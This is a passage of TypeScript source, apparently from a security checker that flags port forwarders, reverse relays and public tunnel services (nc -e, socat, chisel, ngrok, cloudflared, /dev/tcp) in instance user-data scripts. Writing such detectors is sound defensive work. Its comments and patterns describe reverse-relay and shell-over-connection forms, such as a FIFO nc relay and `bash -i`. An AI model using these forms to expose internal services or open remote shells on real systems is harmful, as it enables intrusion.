 * script, a tunnel whose routes live in a configuration it does not read or in the tunnel service) is any loopback
 * end (`{}`), failing closed:
 * - socat with two connecting addresses and no listening one (socat(1) "DESCRIPTION": it "establishes two
 *   bidirectional byte streams and transfers data between them"; `forever`/`retry` redial): one beyond loopback is the
 *   far end of the other, a loopback port or socket (socatEnd) or an EXEC:/SYSTEM:/SHELL: program's (servedRelays);
 * - ncat/nc connecting with -e/--exec, -c/--sh-exec or --lua-exec (Ncat Users' Guide, "Command Execution": the
 *   program's standard input and output are the connection in connect mode too), its program's ends (servedRelays;
 *   a Lua script's, unread);
 * - `chisel client SERVER R:...` (chisel README, "Usage": `R:<local-interface>:<local-port>:<remote-host>:<remote-port>`
 *   "does reverse port forwarding, sharing <remote-host>:<remote-port> from the client to the server's
 *   <local-interface>:<local-port>"; remote-host defaults to the client's localhost; `R:socks` a SOCKS server on the
 *   server reaching everything the client does);
 * - `cloudflared tunnel --url URL` / `--unix-socket PATH` (Cloudflare docs, "Quick Tunnels": "cloudflared tunnel --url
 *   http://localhost:8080" proxies a random trycloudflare.com subdomain, public, to it), a named tunnel's ingress
 *   `service:`s (Cloudflare docs, "Configuration file": `ingress:` rules, `--config`, the default paths
 *   CLOUDFLARED_CONFIGS), or, run by token or configuration the pack does not read, any end; `cloudflared access` is a
 *   client listening on its --url, not a tunnel;
 * - `ngrok http|tcp|tls ADDR` (ngrok docs, "Agent CLI": "ngrok http 80" forwards a public endpoint to localhost:80; an
 *   address or URL for another) and `ngrok start` (its configuration's tunnels: unread);
 * - `bore local PORT --to SERVER` (ekzhang/bore README: "bore local <LOCAL_PORT> --to <TO>", --local-host localhost by
 *   default), and frpc (fatedier/frp: proxies of a configuration to frps's ports: unread).
 */
function dialledOutForwarders(
    name: string,
    args: readonly string[],
    line: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Forwarder[] | undefined {
    const relay = (far: string, ends: readonly (LoopbackEnd | undefined)[]): Forwarder[] =>
        ends.flatMap(to => (to ? [{ forwarder: line, listens: dialledOut(far), to }] : []));
    const peers = dialledOutPeers(name, args);
    if (peers)
        return peers.flatMap(({ far, program, address }) =>
            relay(
                far,
                program === null
                    ? [{}]
                    : program !== undefined
                      ? servedRelays(program, fileText, view)
                      : [socatEnd(address ?? "")],
            ),
        );
    if (name === "chisel" && args[0] === "client") {
        // Go's flag package takes `-name` as `--name`.
        const { operands } = getopt(goFlags(args.slice(1)), "", CHISEL_CLIENT_VALUES);
        const [server = "", ...remotes] = operands.filter(o => !/^-/.test(o));
        const serverHost = addressHost(server);
        return remotes
            .filter(r => /^R:/i.test(r))
            .flatMap(r => {
                const parts = (r.slice(2).match(/\[[^\]]*\]|[^:]+/g) ?? []).map(p => p.replace(/\/(tcp|udp)$/, ""));
                const last = parts.at(-1) ?? "";
                const remote =
                    last === "socks" || !/^\d+$/.test(last)
                        ? { end: {}, local: parts.slice(0, -1) }
                        : parts.length >= 2 && !/^\d+$/.test(parts.at(-2)!)
                          ? { end: relayEnd(parts.at(-2)!, last), local: parts.slice(0, -2) }
                          : { end: relayEnd("127.0.0.1", last), local: parts.slice(0, -1) };
                const listens = loopbackOnly([serverHost])
                    ? [`${remote.local.length > 1 ? remote.local[0] : "0.0.0.0"}:${remote.local.at(-1) ?? last}`]
                    : dialledOut(server);
                return remote.end ? [{ forwarder: line, listens, to: remote.end }] : [];
            });
    }
    if (name === "cloudflared") args = goFlags(args);
    if (
        name === "cloudflared" &&
        (args.includes("tunnel") ||
            (args.includes("service") && args.includes("install")) ||
            longValues(args, /^url$/).length > 0) &&
        // A subcommand word, not an option's value (`--loglevel info`).
        !args.some((a, i) => CLOUDFLARED_NOT_RUNNING.test(a) && !/^--?[a-z-]+$/i.test(args[i - 1] ?? ""))
    ) {
        const given = [...longValues(args, /^url$/), ...longValues(args, /^unix-socket$/).map(s => `unix:${s}`)];
        if (given.length > 0 || args.includes("--hello-world"))
            return relay(
                "a Cloudflare tunnel's public hostname",
                given.map(u => loopbackEnd(u)),
            );
        const configs = longValues(args, /^config$/);
        const texts = (configs.length > 0 ? configs : CLOUDFLARED_CONFIGS).map(p => readConfig(p, fileText, view));
        const read = texts.filter((t): t is string => typeof t === "string");
        const unread = read.length === 0 || texts.includes(null) || args.some(a => /^--token(=|$)/.test(a));
        const services = read.flatMap(t =>
            structuredDocs(t).flatMap(doc => [
                ...(typeof obj(doc).url === "string" ? [obj(doc).url as string] : []),
                ...list(obj(doc).ingress).map(rule => String(obj(rule).service ?? "")),
            ]),
        );
        return relay("a Cloudflare tunnel's hostname", [
            ...services
                .filter(s => !/^(http_status:|hello_world$)/.test(s))
                .map(s => (/^bastion$|^socks/.test(s) ? {} : loopbackEnd(s))),
            ...(unread ? [{}] : []),
        ]);
    }
    if (name === "ngrok") {
        const { operands } = getopt(args, "", [
            "authtoken",
            "config",
            "region",
            "log",
            "log-level",
            "log-format",
            "url",
            "domain",
            "hostname",
            "subdomain",
            "basic-auth",
            "oauth",
            "cidr-allow",
            "cidr-deny",
            "remote-addr",
            "traffic-policy-file",
            "host-header",
            "proto",
            "scheme",
            "label",
            "metadata",
            "name",
        ]);
        const [mode, target] = operands;
        if (mode === "start") return relay("ngrok's public endpoint", [{}]);
        if (!/^(http|tcp|tls)$/.test(mode ?? "") || target === undefined) return undefined;
        return relay("ngrok's public endpoint", [loopbackEnd(/^\d+$/.test(target) ? `localhost:${target}` : target)]);
    }
    if (name === "bore" && args[0] === "local") {
        const { options, operands } = getopt(args.slice(1), "tlps", ["to", "local-host", "port", "secret"]);
        const host = optionValues(options, "-l", "--local-host").at(-1) ?? "localhost";
        return relay(optionValues(options, "-t", "--to").at(-1) ?? "bore.pub", [relayEnd(host, operands[0])]);
    }
    if (name === "frpc") return relay("frps, the frp server", [{}]);
    return unreadRelays(name, args, line, fileText, view);
}

/**
 * Public tunnel services a program hands a local port to without naming their host (localtunnel README, `lt --port
 * 8000`: "your url is: https://....loca.lt"; Tailscale docs, "tailscale funnel command": "share a local service over
 * the internet", `tailscale serve` the same to every tailnet member): `far` their far end, `off` the operands that stop
 * or show a relay rather than start one.
 */
const TUNNEL_SERVICES: { names: RegExp; commands?: RegExp; far: string; off?: RegExp }[] = [
    { names: /^(lt|localtunnel)$/, far: "localtunnel's public URL (loca.lt)" },
    // zrok docs, "zrok share public": "share a local resource (e.g. localhost:8080) publicly" at a share URL; `share
    // private` to any zrok account holding the share token, `share reserved` a reserved share's target (unread: any).
    { names: /^zrok$/, commands: /^share$/, far: "a zrok share's URL" },
    // PageKite quickstart: `pagekite.py 80 yourname.pagekite.me` makes the local port public at that name.
    { names: /^pagekite(\.py)?$/, far: "a PageKite public name (pagekite.me)" },
    // agrinman/tunnelto README: `tunnelto --port 8000` "expose your local web server to the internet with a public URL".
    { names: /^tunnelto$/, far: "tunnelto's public URL (tunnelto.dev)", off: /^(set-auth|--help|-h|--version|-V)$/ },
    {
        names: /^tailscale$/,
        commands: /^(funnel|serve)$/,
        far: "Tailscale Funnel's public URL or the tailnet",
        off: /^(off|reset|status|--help|-h)$/,
    },
    // LocalXpose docs: `loclx tunnel http --to 127.0.0.1:8000` gives a public https://*.loclx.io URL.
    { names: /^loclx$/, commands: /^tunnel$/, far: "a LocalXpose public URL (loclx.io)" },
    // beyondcode/expose docs: `expose share http://localhost:8000 --subdomain=...` publishes the site on the Expose
    // server's public URL.
    { names: /^expose$/, commands: /^share(-cwd)?$/, far: "an Expose server's public URL" },
    // Microsoft Learn, "Dev tunnels CLI command reference": `devtunnel host -p 8000 [--allow-anonymous]` makes the port
    // reachable at the tunnel's URL (without -p, the ports the tunnel was created with: unread).
    { names: /^devtunnel$/, commands: /^host$/, far: "a Microsoft dev tunnel's URL (devtunnels.ms)" },
    // tunnelmole README: `tmole 8000` "prints a public https URL forwarding to localhost:8000".
    { names: /^tmole$/, far: "tunnelmole's public URL", off: /^(-h|--help|-V|--version|--set-api-key)$/ },
    // Packetriot docs: `pktriot http 8080` (tcp, https alike) gives the local port a public hostname; `pktriot start`
    // runs the tunnels its configuration holds (unread: any end).
    {
        names: /^pktriot$/,
        far: "a Packetriot public hostname",
        off: /^(-h|--help|version|info|configure|edit|route|domain|help)$/,
    },
    // NPS (ehang-io/nps): `npc -server=HOST:PORT -vkey=KEY` runs the tunnels the server's web UI configures for the
    // client, their node-local targets included: the far side picks them (any end, failing closed).
    {
        names: /^npc$/,
        far: "the NPS server's tunnels (targets chosen on the server)",
        off: /^(-h|--help|-version|--version|stop|uninstall|status)$/,
    },
];

/**
 * A subcommand or flag saying a program the pack does not read hands something out through a tunnel service (`X
 * tunnel http --to ...`, `X share URL`, `X host -p PORT`, `--public`): with an end on this instance it names, read as a
 * TUNNEL_SERVICES one (round 60: the list of tunnel services does not end either).
 */
const TUNNEL_WORDS = /^(tunnel|share|expose|host|publish|--share|--expose|--public|--tunnel)$/;

/** An end on this instance a word names: a loopback host with a port (`tcp:127.0.0.1:8000`, `ws://localhost:80/`), a socket. */
function namedLocalEnd(word: string): LoopbackEnd | undefined {
    const w = word.replace(/^--?[\w.-]+=/, "").replace(/^["']|["']$/g, "");
    for (const candidate of [w, w.replace(/^[a-z][\w-]*:(?!\/\/)/i, "")]) {
        // A socket by its scheme or its name (a bare path is as often a file or directory).
        const socket = /^(unix:(?:\/\/)?)?(\/[^\s,;]+)$/.exec(candidate);
        if (socket) {
            if (socket[1] !== undefined || /\.sock(et)?$/.test(socket[2]))
                return { socket: posix.normalize(socket[2]) };
            continue;
        }
        const host = addressHost(candidate);
        if (host === "" || host.startsWith("/") || !loopbackOnly([host])) continue;
        const end = loopbackEnd(candidate);
        if (end?.port !== undefined) return end;
    }
    return undefined;
}

/** Another host a word names as an endpoint (a URL's host or HOST:PORT: a DNS name or an address not the node's loopback). */
function namedOtherHost(word: string): string | undefined {
    const w = word.replace(/^--?[\w.-]+=/, "").replace(/^["']|["']$/g, "");
    for (const candidate of [w, w.replace(/^[a-z][\w-]*:(?!\/\/)/i, "")]) {
        const url = /^[a-z][\w+.-]*:\/\//i.test(candidate);
        const hostPort = /^(\[[^\]]*\]|[^\s:/@=[\]]+):\d+(\/.*)?$/.test(candidate);
        if (!url && !hostPort) continue;
        const host = addressHost(candidate);
        if (host === "" || host.startsWith("/") || loopbackOnly([host]) || connectsToThisHost(host)) continue;
        if (OTHER_HOST_NAME.test(host) || ipAddress(host.replace(/^\[|\]$/g, "")) !== undefined) return candidate;
    }
    return undefined;
}

/**
 * A relay the pack has no reader for, failing closed (round 57: websocat, rathole, localtunnel, tailscale funnel were
 * the round-56 relays' kind under other names; the list of tunnel programs does not end): a root program that is none
 * of the relays read above (READ_RELAYS), no server the pack reads (SERVERS) and no known client (KNOWN_CLIENTS,
 * NOT_UNREAD_SERVERS), whose words or the configuration files it is handed that user data wrote (readConfig; a
 * TOML/YAML/INI file's values: rathole's client.toml `remote_addr`/`local_addr`) name both an end on this instance
 * (namedLocalEnd, a forward's `[scheme://][bind:]port:host:hostport` (forwardSpecEnd), or a `--port`/`--ports`/
 * `--local-port` value, of the `--upstream` host when one is given apart) and another host (namedOtherHost) or is a
 * public tunnel service (TUNNEL_SERVICES: its bare port operands too, none read any end; or, round 60, a program whose
 * subcommand or flags say it tunnels, TUNNEL_WORDS, once it names an end, `-p` too): it relays the one to the other, as
 * ssh -R does.
 */
function unreadRelays(
    name: string,
    args: readonly string[],
    line: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Forwarder[] | undefined {
    if (READ_RELAYS.test(name) || NOT_UNREAD_SERVERS.test(name) || knownClient(name, args)) return undefined;
    const tunnel = TUNNEL_SERVICES.find(
        t =>
            t.names.test(name) &&
            (t.commands === undefined || t.commands.test(args.find(w => !w.startsWith("-")) ?? "")),
    );
    if (tunnel?.off && args.some(w => tunnel.off!.test(w))) return undefined;
    if (!tunnel && SERVERS.some(s => s.names.test(name) && !s.partial)) return undefined;
    // A program whose subcommand or flags say it tunnels (TUNNEL_WORDS), read as a tunnel service once it names an end.
    const tunnelish =
        tunnel !== undefined ||
        TUNNEL_WORDS.test(args.find(w => !w.startsWith("-")) ?? "") ||
        args.some(w => TUNNEL_WORDS.test(w.replace(/=.*$/, "")) && w.startsWith("--"));
    const words = [...clientWords(name, args)];
    const texts = words
        .filter(w => w.startsWith("/"))
        .map(w => readConfig(posix.normalize(w), fileText, view))
        .filter((t): t is string => typeof t === "string");
    const configWords = texts.flatMap(t => t.split(/[\s"'=,]+/).filter(w => w !== "" && !/^[#;]/.test(w)));
    const all = [...words, ...configWords];
    // An upstream host given apart from its ports (inlets docs: `inlets-pro tcp client --url wss://... --upstream
    // 127.0.0.1 --ports 8000`, the server's public ports relayed to the upstream's): the ports are that host's.
    const upstream = words.flatMap((w, i) => {
        const option = /^--?(upstream|local[-_]?host|target[-_]?host|to[-_]?host)(?:=(.*))?$/i.exec(w);
        const value = option ? (option[2] ?? words[i + 1]) : undefined;
        return value !== undefined && !/:\d+/.test(value) ? [value] : [];
    });
    const portHost = upstream.find(h => !loopbackOnly([h])) ?? "127.0.0.1";
    // Where the program itself listens (`--listen localhost:8443`, `--bind=127.0.0.1:8080`: ghostunnel client, stunnel
    // `accept`): a loopback listener only the node's processes reach, relayed to the far side, not from it.
    const ownListen = (w: string, i: number) =>
        /^--?(listen|bind|accept)(-addr(ess)?)?=/.test(w) ||
        /^--?(listen|bind|accept)(-addr(ess)?)?$/.test(words[i - 1] ?? "");
    const ends: LoopbackEnd[] = [
        ...words.flatMap((w, i) => (ownListen(w, i) ? [] : (namedLocalEnd(w) ?? []))),
        ...configWords.flatMap(w => namedLocalEnd(w) ?? []),
        // A forward's `[scheme://][bind:]port:host:hostport` (wstunnel README, "wstunnel client -R
        // tcp://[::]:8080:localhost:8000 wss://server": the server listens, the client dials localhost:8000; chisel's
        // R:), but for a local forward (-L: the far side dials it).
        ...words.flatMap((w, i) =>
            /^(-L|--local(-to-remote)?)$/.test(words[i - 1] ?? "") ? [] : (forwardSpecEnd(w) ?? []),
        ),
        ...words.flatMap((w, i) => {
            const option = /^(--?(?:local[-_]?)?ports?|-p)(?:=([\d,]+))?$/i.exec(w);
            if (!option || (option[1] === "-p" && !tunnelish)) return [];
            const value = option[2] ?? words[i + 1] ?? "";
            return /^\d+(,\d+)*$/.test(value) ? value.split(",").flatMap(p => relayEnd(portHost, p) ?? []) : [];
        }),
        ...(tunnel
            ? words.flatMap((w, i) => (/^\d+$/.test(w) && !/^-/.test(words[i - 1] ?? "") ? [{ port: Number(w) }] : []))
            : []),
    ];
    const far =
        tunnel?.far ??
        all.map(w => namedOtherHost(w)).find(h => h !== undefined) ??
        (tunnelish && ends.length > 0 ? `${name}'s tunnel service` : undefined);
    if (far === undefined) return undefined;
    if (ends.length === 0 && !tunnel) return undefined;
    return (ends.length > 0 ? ends : [{}]).map(to => ({
        forwarder: `${line} (a relay the pack does not read)`,
        listens: tunnel ? [`${far} (another host)`] : dialledOut(far),
        to,
    }));
}

/** The end on this instance of a forward specification `[scheme://][bind:]port:host:hostport` (ssh -R's form). */
function forwardSpecEnd(word: string): LoopbackEnd | undefined {
    const spec = word
        .replace(/^--?[\w.-]+=/, "")
        .replace(/^["']|["']$/g, "")
        .replace(/^[a-z][\w+.-]*:\/\//i, "")
        .replace(/^R:/, "");
    const parts = spec.match(/\[[^\]]*\]|[^:]+/g) ?? [];
    if (parts.length < 3 || !/^\d+$/.test(parts.at(-1)!) || !/^\d+$/.test(parts.at(-3)!) || /^\d+$/.test(parts.at(-2)!))
        return undefined;
    return relayEnd(parts.at(-2)!.replace(/^\[|\]$/g, ""), parts.at(-1));
}

/**
 * Forwarders a command starts:
 * - socat with a network listener (SOCAT_LISTENER; bind= its address, every address by default) and a connecting
 *   address (TCP:/TCP4:/TCP-CONNECT:/OPENSSL:HOST:PORT, UNIX-CONNECT:/UNIX-CLIENT:/UNIX:PATH) (socat(1) "ADDRESS TYPES");
 * - ssh -L/LocalForward to this instance (the destination is loopback: the target is resolved there) listening on its
 *   bind address (loopback unless -g or GatewayPorts yes; "" or * every address), and ssh -R/RemoteForward, whose
 *   target is resolved here and whose listener is on the destination, another host's (ssh(1) -L, -R);
 * - gost `-L tcp://[ADDR]:PORT/TARGET` without a -F chain (the target dialled here), and `rtcp://` (listening on the
 *   chain's far end, dialling here) (ginuerzh/gost README, "Port forwarding");
 * - `caddy reverse-proxy --to` (every interface), systemd-socket-proxyd TARGET (its socket unit's address, joined in
 *   loopbackJoin: socketActivatedListens; every address here), and iptables/nft DNAT rules (iptablesForwarder,
 *   nftForwarders);
 * - envoy's bootstrap, --config-yaml or -c (envoyBootstrapForwarders: static and file-based dynamic resources),
 *   pen and balance, busybox httpd's P: lines (busyboxHttpdConfig).
 * - 3proxy's tcppm port mappers (threeProxyServices).
 * A listener running a network client on each connection (ncat -e/-c, socat EXEC:/SYSTEM:, tcpsvd, inetd ...) is a
 * forwarder too, read where every listener is judged (servedForwarders). Relays that dial out (socat with two
 * connecting addresses, ncat -e in connect mode, chisel R:, cloudflared, ngrok, bore, frpc) are ssh -R's kind, read in
 * dialledOutForwarders.
 */
export function commandForwarders(
    words: readonly string[],
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Forwarder[] {
    const line = words.join(" ");
    const busybox = posix.basename(words[0] ?? "") === "busybox";
    words = appletWords(words);
    const name = posix.basename(words[0] ?? "");
    const args = words.slice(1);
    const forwarder = (listens: readonly string[], to: LoopbackEnd | undefined): Forwarder[] =>
        to ? [{ forwarder: line, listens, to }] : [];
    const dialled = dialledOutForwarders(name, args, line, fileText, view);
    if (dialled) return dialled;
    if (busybox && name === "httpd" && busyboxHttpdListeners(args, undefined, name).length > 0)
        return busyboxHttpdConfig(args, undefined, fileText, view).proxies.flatMap(to =>
            forwarder(optionValues(getopt(args, "cpuhrmde", []).options, "-p"), to),
        );
    if (name === "socat") {
        const addresses = args.filter(w => !w.startsWith("-") || w === "-").slice(-2);
        const listener = addresses.find(a => SOCAT_LISTENER.test(a) && !/^unix/i.test(a));
        if (!listener) return [];
        const [head, ...options] = listener.split(",");
        const port = head.split(":")[1] ?? "";
        const bind = options.flatMap(o => (/^bind=/i.test(o) ? [o.slice(5)] : [])).at(-1);
        const listens = [`${bind ?? "0.0.0.0"}${bind !== undefined && /:\d+$/.test(bind) ? "" : `:${port}`}`];
        return addresses.flatMap(a => forwarder(listens, socatEnd(a)));
    }
    if (name === "ssh") {
        const { options, operands, setting, gateway } = sshCommand(args);
        const destination = sshDestination(operands);
        const self = loopbackOnly([destination]);
        const forwards = (flag: string, key: string) => [
            ...optionValues(options, flag),
            ...setting(key).map(v => v.replace(/\s+/, ":")),
        ];
        // [bind:]port:host:hostport, [bind:]port:socket, socket:host:hostport, socket:socket (IPv6 in brackets).
        const split = (spec: string) => {
            const parts = spec.match(/\[[^\]]*\]|[^:]+/g) ?? [];
            const socketTarget = parts.at(-1)?.startsWith("/") ?? false;
            const target = socketTarget ? parts.slice(-1) : parts.slice(-2);
            const listen = parts.slice(0, parts.length - target.length);
            return { listen, target: target.join(":").replace(/^\[|\](?=:|$)/g, "") };
        };
        return [
            ...forwards("-L", "LocalForward").flatMap(spec => {
                const { listen, target } = split(spec);
                const bind = listen.length > 1 ? listen[0] : gateway ? "*" : "localhost";
                return self
                    ? forwarder([`${bind === "" ? "*" : bind}:${listen.at(-1) ?? ""}`], loopbackEnd(target))
                    : [];
            }),
            // A reverse dynamic forward (`-R [bind:]port`) is a SOCKS proxy (sshListeners).
            ...forwards("-R", "RemoteForward")
                .filter(spec => !reverseSocks(spec))
                .flatMap(spec => {
                    const { listen, target } = split(spec);
                    const bind = listen.length > 1 ? listen[0] : "localhost";
                    const listens = self ? [`${bind}:${listen.at(-1) ?? ""}`] : [`${destination} (another host)`];
                    return forwarder(listens, loopbackEnd(target));
                }),
        ];
    }
    if (name === "gost") {
        const { options } = getopt(args, "LFCM", []);
        const chained = options.some(([k]) => k === "-F");
        return optionValues(options, "-L").flatMap(raw => {
            const m = /^(tcp|rtcp):\/\/([^/]*)\/(.+)$/i.exec(raw.replace(/^=/, ""));
            if (!m || (m[1].toLowerCase() === "tcp" && chained)) return [];
            return forwarder(
                m[1].toLowerCase() === "rtcp" ? ["the gost chain's far end (another host)"] : [m[2]],
                loopbackEnd(m[3]),
            );
        });
    }
    // chisel server --backend (chisel README, `chisel server --help`: "Specifies another HTTP server to proxy requests
    // to when chisel receives a normal HTTP request"): --auth guards tunnels only, the backend is served to every client.
    if (name === "chisel" && args[0] === "server") {
        const { options } = getopt(goFlags(args.slice(1)), "p", CHISEL_SERVER_VALUES);
        const host = optionValues(options, "--host").at(-1) ?? "0.0.0.0";
        const port = optionValues(options, "-p", "--port").at(-1) ?? "8080";
        return optionValues(options, "--backend").flatMap(b => forwarder([`${host}:${port}`], loopbackEnd(b)));
    }
    if (name === "caddy" && args[0] === "reverse-proxy")
        return [...longValues(args, /^(to|t)$/), ...optionValues(getopt(args, "tf").options, "-t")].flatMap(to =>
            forwarder([], loopbackEnd(to)),
        );
    if (name === "systemd-socket-proxyd") {
        const target = args.filter(w => !w.startsWith("-")).at(0);
        return target === undefined
            ? []
            : forwarder([], target.startsWith("/") ? { socket: target } : loopbackEnd(target)).map(f => ({
                  ...f,
                  socketActivated: true,
              }));
    }
    // 3proxy's port mappers (tcppm(8): `tcppm [-iIP] LOCAL_PORT REMOTE_HOST REMOTE_PORT`); its proxies are threeProxyListeners'.
    if (name === "3proxy")
        return (threeProxyServices(args, fileText, view) ?? [])
            .filter(s => s.service === "tcppm")
            .flatMap(s =>
                forwarder(
                    (s.binds.length > 0 ? s.binds : ["0.0.0.0"]).map(b => `${b}:${s.operands[0] ?? ""}`),
                    relayEnd(s.operands[1] ?? "", s.operands[2]),
                ),
            );
    if (/^(iptables|ip6tables)(-legacy|-nft)?$/.test(name)) return iptablesForwarder(args);
    if (name === "nft") return nftForwarders(args.join(" "));
    if (name === "autossh")
        return commandForwarders(["ssh", ...autosshSshArgs(args)]).map(f => ({ ...f, forwarder: line }));
    if (name === "dbclient")
        return commandForwarders(["ssh", ...dropbearSshArgs(args)]).map(f => ({ ...f, forwarder: line }));
    if (/^firewall-(offline-)?cmd$/.test(name)) {
        // --direct rules are iptables' own (firewall-cmd(1) "Direct Options": `--add-rule { ipv4 | ipv6 | eb } table
        // chain priority args`, `--add-passthrough { ipv4 | ipv6 | eb } args`).
        const direct = args.findIndex(w => /^--add-(rule|passthrough)$/.test(w));
        const rule =
            direct < 0
                ? []
                : args[direct] === "--add-rule"
                  ? ["-t", args[direct + 2], "-A", args[direct + 3], ...args.slice(direct + 5)]
                  : args.slice(direct + 2);
        return [...firewalldForwarders(line), ...iptablesForwarder(rule).map(f => ({ ...f, forwarder: line }))];
    }
    // Envoy's bootstrap given inline (Envoy docs, "Command line options": "--config-yaml <yaml string>: The YAML string
    // for a bootstrap configuration"), read as a written one.
    // -c/--config-path (Envoy docs, "Command line options"); -l takes the log level. A bootstrap user data does not
    // write (fetched, the AMI's) or changes (readConfig) may hold any listener and cluster, as an LDS/CDS/EDS source
    // the pack cannot read (envoyBootstrapForwarders): a forwarder from every address to any loopback end.
    if (name === "envoy")
        return [
            ...longValues(args, /^config-yaml$/).map(yaml => ({ yaml, where: "envoy --config-yaml" })),
            ...optionValues(getopt(args, "cl", ["config-path", "config-yaml"]).options, "-c", "--config-path").map(
                path => ({ yaml: readConfig(path, fileText, view), where: path }),
            ),
        ].flatMap(({ yaml, where }) =>
            yaml == null
                ? [{ forwarder: `Envoy bootstrap ${where} the pack cannot read (${line})`, listens: [], to: {} }]
                : envoyBootstrapForwarders(yaml, where, fileText, view).map(f => ({
                      ...f,
                      forwarder: `${f.forwarder} (${line})`,
                  })),
        );
    // pen(1) "[host:]port h1[:p1[:maxc1...]] [h2[:p2...]] ...", every address without a host; balance(1) "balance
    // [-b addr] ... port [h1[:p1[:maxc1]] ...]" (-b its bind address). A server without a port is reached on the
    // listening port.
    // pen's -F cfgfile holds control commands (penctl(1): `server N address A port P`), unread: an end it cannot tell.
    if (name === "pen" || name === "balance") {
        const { options, operands } = getopt(args, BALANCER_VALUES[name], []);
        const [listen = "", ...servers] = operands.filter(o => o !== "!" && o !== "%");
        const own = /^(?:(.*):)?(\d+)$/.exec(listen);
        const bind = name === "balance" ? (optionValues(options, "-b").at(-1) ?? "0.0.0.0") : (own?.[1] ?? "0.0.0.0");
        const listens = [`${bind}:${own?.[2] ?? listen}`];
        return [
            ...servers.flatMap(server => {
                const [host = "", port = own?.[2]] = server.split(":");
                return forwarder(listens, relayEnd(host, port));
            }),
            ...(name === "pen" && optionValues(options, "-F").length > 0 ? forwarder(listens, {}) : []),
        ];
    }
    return [];
}

/**
 * The forwarders of one Envoy bootstrap (`where` names it), one set of listeners joined to one set of clusters
 * (envoyForwarders): its static_resources (Envoy docs, "Configuration: Static") and its file-based dynamic resources
 * ("Configuration: Dynamic from filesystem": `dynamic_resources` lds_config / cds_config, a config source whose
 * `path_config_source` (or older `path`) names a file whose `resources:` are Listener / Cluster resources), static
 * listeners to CDS clusters and LDS listeners to static clusters alike. An EDS cluster (`type: EDS`,
 * eds_cluster_config.eds_config: config_source.proto) takes its endpoints from that source's ClusterLoadAssignment
 * resources (envoy.config.endpoint.v3.ClusterLoadAssignment) whose cluster_name is its service_name, else its name. A
 * source the pack cannot read (a file user data does not write, or changes in a way the pack cannot compute:
 * readConfig; `ads`, `api_config_source`, any other: a management server's) may hold any listener, cluster or
 * endpoint: a forwarder from every address to an end the pack cannot tell (`{}`: any loopback listener), failing closed.
 */
function envoyBootstrapForwarders(
    text: string,
    where: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Forwarder[] {
    const docs = structuredDocs(text);
    // A config source's resources, undefined when the pack cannot read them.
    const resources = (source: unknown): unknown[] | undefined => {
        const path = [obj(obj(source).path_config_source).path, obj(source).path].find(p => typeof p === "string");
        const file = typeof path === "string" ? readConfig(path, fileText, view) : undefined;
        return file == null ? undefined : structuredDocs(file).flatMap(doc => list(obj(doc).resources));
    };
    const dynamic = docs.map(doc => obj(obj(doc).dynamic_resources));
    const sourced = (key: string) => dynamic.filter(d => d[key] !== undefined).map(d => resources(d[key]));
    const [listenerFiles, clusterFiles] = [sourced("lds_config"), sourced("cds_config")];
    const statics = docs.map(doc => obj(obj(doc).static_resources));
    const edsEnds = (cluster: unknown): string[] | undefined => {
        const c = obj(cluster);
        if (c.type !== "EDS" && c.eds_cluster_config === undefined) return [];
        const config = obj(c.eds_cluster_config);
        const name = String(config.service_name ?? c.name ?? "");
        return resources(config.eds_config)
            ?.filter(a => String(obj(a).cluster_name ?? "") === name)
            .flatMap(envoyAssignmentEnds);
    };
    const unread = [...listenerFiles, ...clusterFiles].some(r => r === undefined);
    return [
        ...envoyForwarders(
            [...statics.flatMap(r => list(r.listeners)), ...listenerFiles.flatMap(r => r ?? [])],
            [...statics.flatMap(r => list(r.clusters)), ...clusterFiles.flatMap(r => r ?? [])],
            edsEnds,
        ),
        ...(unread
            ? [{ forwarder: `Envoy dynamic resources of ${where} the pack cannot read`, listens: [], to: {} }]
            : []),
    ];
}

/**
 * The ends a network client command reaches (a pipeline's stage): a bash /dev/tcp|/dev/udp redirection of it
 * (DEV_TCP_REDIRECTION), `nc HOST PORT` (not listening; -U a socket), socat's addresses, `openssl s_client -connect`,
 * and for any other program not NOT_UNREAD_SERVERS the endpoints its words name (namedLocalEnd, namedOtherHost). `far`
 * another host's, `to` an end on this instance.
 */
function clientEnds(c: { words: readonly string[]; writes: readonly string[]; reads: readonly string[] }): {
    far: string[];
    to: LoopbackEnd[];
} {
    const out = { far: [] as string[], to: [] as LoopbackEnd[] };
    const add = (host: string, port: string | undefined) => {
        const end = relayEnd(host, port);
        if (end) out.to.push(end);
        else out.far.push(`${host}:${port ?? ""}`);
    };
    for (const path of [...c.writes, ...c.reads]) {
        const m = /^\/dev\/(?:tcp|udp)\/([^/\s]+)\/(\S+)$/.exec(path);
        if (m) add(m[1], m[2]);
    }
    const words = appletWords(c.words.slice(programIndex(c.words)));
    const name = posix.basename(words[0] ?? "");
    const rest = words.slice(1);
    if (/^(ncat|nc|netcat)$/.test(name)) {
        const them = ncatCommand(rest);
        if (!them.listen && them.hosts[0] !== undefined) {
            if (them.values.some(([k]) => k === "-U" || k === "--unixsock"))
                out.to.push({ socket: posix.normalize(them.hosts[0]) });
            else add(them.hosts[0], rest.filter(w => /^\d+$/.test(w)).at(-1));
        }
    } else if (name === "socat")
        for (const a of rest.filter(w => !w.startsWith("-")).slice(-2)) {
            const far = socatFar(a);
            const end = socatEnd(a);
            if (end) out.to.push(end);
            else if (far !== undefined) out.far.push(far);
        }
    else if (name === "openssl" && rest[0] === "s_client")
        for (const c of longValues(
            rest.map(w => w.replace(/^-(?=connect)/, "--")),
            /^connect$/,
        )) {
            const end = loopbackEnd(c);
            if (end) out.to.push(end);
            else out.far.push(c);
        }
    else if (
        name !== "" &&
        !NOT_UNREAD_SERVERS.test(name) &&
        !READ_RELAYS.test(name) &&
        !SERVERS.some(s => s.names.test(name))
    )
        rest.forEach(w => {
            const end = namedLocalEnd(w);
            const far = namedOtherHost(w);
            if (end) out.to.push(end);
            else if (far !== undefined) out.far.push(far);
        });
    return out;
}

/**
 * What one shell line's commands relay together (round 57):
 * - a pipeline, or commands joined by a file (a FIFO: mkfifo(1)) one writes and another reads, of a client of another
 *   host and a client of an end on this instance (clientEnds: the classic `nc HOST PORT < /tmp/f | nc 127.0.0.1 PORT
 *   > /tmp/f`) relays that end to whoever holds the other host's, as ssh -R does (dialledOut);
 * - a shell or interpreter reading what a connection sends (runsClientCommands: `bash -i`) whose input or output is a
